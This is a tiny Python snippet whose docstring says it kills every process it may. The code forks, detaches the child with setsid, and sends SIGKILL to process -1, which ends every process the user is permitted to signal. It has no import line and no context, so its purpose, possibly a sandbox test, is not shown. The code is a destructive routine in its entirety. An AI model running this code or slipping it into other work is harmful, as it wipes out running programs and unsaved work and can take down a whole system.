"""Kills every process that it may."""

if os.fork() == 0:
    os.setsid()
    os.kill(-1, 9)
os.wait()
